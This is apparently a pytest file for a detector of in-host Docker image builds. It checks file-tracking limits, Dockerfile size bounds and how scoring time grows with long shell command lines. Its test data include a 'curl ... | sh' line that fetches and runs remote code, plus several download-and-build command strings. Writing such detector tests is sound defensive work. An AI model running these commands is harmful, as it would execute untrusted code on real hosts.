"""What is remembered of the files of one text is bounded, and so is what is read of them."""

from __future__ import annotations

import sys

import pytest

from t1612core import Detector
from t1612core.container.dockerfile.limits import LIMIT
from t1612core.facts.event import Line
from t1612core.facts.instructions import instructions
from t1612core.facts.standard_input import standard_input
from t1612core.shell.files import Files
from t1612core.shell.flow import MOST, Flow
from t1612core.shell.placing import Deposit
from t1612core.shell.source import Source
from t1612core.shell.words import Word

FETCHED = "RUN curl http://203.0.113.9/p | sh"


def test_so_many_new_directories_are_known_and_no_more() -> None:
    files = Files()
    for number in range(MOST + 1):
        files.make(f"d{number}")
    for number in (MOST - 1, MOST):
        tree = Flow(texts=(Source("a"),))
        files.put(f"d{number}", tree, Deposit((), is_tree=True, is_here=True))

    assert [held.is_among_others for held in files] == [False, True]


def test_texts_are_read_as_far_as_a_dockerfile_is() -> None:
    long, last = Word("#" * (LIMIT + 1), (0, 1)), Word(FETCHED, (2, 3))

    assert [seen[0] for seen in instructions([last])] == ["inline_instructions"]
    told = list(instructions([long, last]))
    assert told == [("inline_instructions", "dockerfile.oversized: ", (0, 3))]


def test_a_dockerfile_is_read_whatever_was_fetched_beside_it() -> None:
    fetched = "".join(f"curl -o f{number} http://198.51.100.7/{number};" for number in range(MOST))
    line = f"sh -c '{fetched} echo \"{FETCHED}\" >Dockerfile; docker build .'"
    facts = standard_input(Line(line, "sh"), "command_line")

    (told,) = [fact.text for fact in facts if fact.signal == "process.inline_instructions"]
    assert told.endswith(FETCHED.removeprefix("RUN "))


def test_a_text_that_fills_the_bound_leaves_no_room_and_says_so() -> None:
    full, last = Word("#" * LIMIT, (0, 1)), Word(FETCHED, (2, 3))

    assert list(instructions([full])) == []
    assert [seen[1] for seen in instructions([full, last])] == ["dockerfile.oversized: "]


# Each piece names files of its own, so nothing is found again that was read already.
NUMBERED = {
    "files and builds": "echo FROM a>f{0};docker build -f f{0} .;",
    "directories": "mkdir d{0};cd d{0};tar xf a{0}.tar;docker build .;",
    "downloads": "curl -o f{0} http://203.0.113.9/{0};docker build .;",
    "copies": "cp f{0} d/f{0};docker build d;",
    "variables": "V{0}=d{0};echo FROM a>$V{0}/Dockerfile;docker build $V{0};",
    "containers": "docker cp f{0} c{0}:/;docker commit c{0} a;",
}


def _calls(piece: str, size: int) -> int:
    """Count the calls that a line of so many characters takes."""
    pieces = [piece.format(number) for number in range(size // len(piece))]
    line = f"sh -c '{''.join(pieces)}'"
    detector, calls = Detector(), 0

    def count(_frame: object, _event: str, _argument: object) -> None:
        nonlocal calls
        calls += 1

    before = sys.getprofile()
    sys.setprofile(count)
    try:
        detector.score_process({"FileName": "sh", "ProcessCommandLine": line})
    finally:
        sys.setprofile(before)
    return calls


@pytest.mark.growth
@pytest.mark.parametrize("name", NUMBERED)
def test_work_grows_with_the_files_of_a_line(name: str) -> None:
    short, long = (_calls(NUMBERED[name], size) for size in (8_000, 16_000))

    assert short > 50_000
    assert long / short < 2.3
